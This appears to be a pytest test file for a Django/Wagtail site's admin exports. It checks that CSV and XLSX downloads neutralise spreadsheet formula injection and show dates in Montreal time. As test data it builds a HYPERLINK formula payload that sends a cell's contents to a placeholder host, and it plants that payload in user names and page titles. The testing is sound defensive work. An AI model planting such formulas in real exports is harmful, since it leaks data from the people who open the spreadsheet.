"""Item 5 of #11: every admin spreadsheet neutralises formulas, in Montreal time, readable."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.utils import timezone

from events.factories import EventPageFactory, SignUpFactory
from events.models import EventPage
from home.exports import FORMULA_PREFIXES
from progress.factories import build_course, complete
from registration.choices import Reason
from registration.factories import RegistrationFactory, UserFactory
from registration.models import IneligibleAttempt

ATTACKS = [
    f'{prefix}HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez")' for prefix in FORMULA_PREFIXES
]
REGISTERED_AT = datetime.datetime(
    2026, 1, 15, 3, 30, tzinfo=datetime.UTC
)  # 22:30 the 14th in Montreal

EXPORTS = [
    "/admin/registrations/",
    "/admin/refused_questionnaires/",
    "/admin/reports/progress/participants/",
    "/admin/reports/progress/module-completion/",
    "/admin/reports/progress/pipeline-funnel/",
    # Wagtail's own reports go through the same path: page titles are typed by representatives.
    "/admin/reports/aging-pages/",
    "/admin/reports/locked/",
    # The participants of an event (the event is created by `hostile_data`).
    "/admin/events/{event}/export/",
]


@pytest.fixture
def hostile_data(home_fr, db):
    course, modules = build_course(parent=home_fr, modules=len(ATTACKS))
    for module, attack in zip(modules, ATTACKS, strict=True):
        module.title = attack
        module.save_revision().publish()
    event = EventPageFactory(capacity=2)
    for index, attack in enumerate(ATTACKS):
        user = UserFactory(
            first_name=attack, last_name="Lévesque-Ouellette", email=f"Cible.{index}@Example.com"
        )
        registration = RegistrationFactory(user=user, complete=True)
        type(registration).objects.filter(pk=registration.pk).update(created_at=REGISTERED_AT)
        complete(user, modules[0])
        SignUpFactory(event=event, user=user, queued_at=REGISTERED_AT)
    IneligibleAttempt.objects.create(
        month=timezone.localdate().replace(day=1), reason=Reason.values[0], language="fr", count=3
    )
    return modules


@pytest.fixture
def admin_client(client, django_user_model):
    admin = django_user_model.objects.create_superuser(email="admin@example.com", password="x")
    client.force_login(admin)
    return client


def _url(url: str) -> str:
    return url.format(event=EventPage.objects.first().pk) if "{event}" in url else url


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff"), "CSV without a byte-order mark shows mojibake in Excel"
    assert "charset=utf-8" in response["Content-Type"]
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))


def xlsx_rows(response):
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.worksheets[0]
    assert sheet.title != "Sheet1"
    return sheet.title, [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("url", EXPORTS)
def test_no_cell_of_any_csv_export_runs_as_a_formula(admin_client, hostile_data, url):
    response = admin_client.get(_url(url), {"export": "csv"})
    assert response.status_code == 200
    cells = [cell for row in csv_rows(response) for cell in row]
    assert cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


@pytest.mark.parametrize("url", EXPORTS)
def test_no_cell_of_any_xlsx_export_runs_as_a_formula(admin_client, hostile_data, url):
    response = admin_client.get(_url(url), {"export": "xlsx"})
    assert response.status_code == 200
    _title, rows = xlsx_rows(response)
    cells = [cell for row in rows for cell in row if isinstance(cell, str)]
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]


def test_participants_progress_shows_the_name_as_text(admin_client, hostile_data):
    rows = csv_rows(admin_client.get("/admin/reports/progress/participants/", {"export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert '\'=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez") Lévesque-Ouellette' in names


def test_dates_are_in_montreal_time(admin_client, hostile_data):
    rows = csv_rows(admin_client.get("/admin/registrations/", {"export": "csv"}))
    assert "2026-01-14 22:30" in rows[1]
    title, xrows = xlsx_rows(admin_client.get("/admin/registrations/", {"export": "xlsx"}))
    assert datetime.datetime(2026, 1, 14, 22, 30) in xrows[1]
    assert title == "Inscriptions"
